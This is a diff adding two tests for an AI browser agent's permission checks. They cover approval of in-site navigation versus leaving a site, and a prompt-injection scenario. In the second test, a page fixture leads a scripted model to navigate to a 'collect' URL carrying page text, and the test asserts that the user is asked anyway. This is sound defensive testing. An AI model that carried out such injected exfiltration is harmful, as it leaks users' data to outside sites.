@@ -164,3 +164,38 @@ def test_page_cache_gives_the_previous_product(flow: Flow, load: Callable[[str],
     assert flow.browser.cache is not None
     recent = arun(flow.browser.cache.get_recent_snapshots(5))
     assert [s.title for s in recent] == ["Camp Stove – Example Shop", "Trail Runner 2 – Example Shop"]
+
+
+def test_search_and_navigation_within_and_across_sites(flow: Flow, load: Callable[[str], str],
+                                                       web_page: QtWebEnginePage, page_server: str,
+                                                       arun: Callable[..., Any]) -> None:
+    load("shop/jsonld.html")
+    flow.browser.search_engine = f"{page_server}/shop/search.html?q={{query}}"
+    flow.model.script(
+        call("search_web", {"query": "trail shoes"}),
+        call("navigate", {"url": f"{page_server}/shop/microdata.html"}),
+        call("navigate", {"url": "http://localhost:1/"}),
+        text("Done."),
+    )
+    flow.answers = ["deny"]
+    flow.run(arun, "search for trail shoes, then open the camp stove, then the partner site")
+    decisions = [(e.tool_name, e.decision) for e in _final(flow.log)]
+    # Searching and moving within the site run; leaving it asks (and was denied here).
+    assert decisions == [("search_web", "auto-approved"), ("navigate", "auto-approved"), ("navigate", "denied")]
+    assert [r.site for r in flow.asked] == ["localhost"]
+    results = [m["content"] for m in flow.model.requests[-1]["messages"] if m["role"] == "tool"]
+    assert "trail shoes" in results[0] and arun(web_page.url()).endswith("/shop/microdata.html")
+
+
+def test_sending_page_data_to_another_site_asks_even_when_granted(flow: Flow, load: Callable[[str], str],
+                                                                  arun: Callable[..., Any]) -> None:
+    load("injection.html")
+    flow.harbor.apply_decision("navigate", "localhost", "allow-site")  # the user trusts that site for navigation
+    arun(flow.browser.read())
+    leak = "http://localhost:1/collect?d=tested+each+one+at+home+for+a+week"
+    flow.model.script(call("navigate", {"url": leak}), text("Not sent."))
+    flow.answers = ["deny"]
+    flow.run(arun, "summarise the deals")
+    (request,) = flow.asked
+    assert request.tool_name == "navigate" and request.from_page_content
+    assert "send text taken from this page to localhost" in request.reason
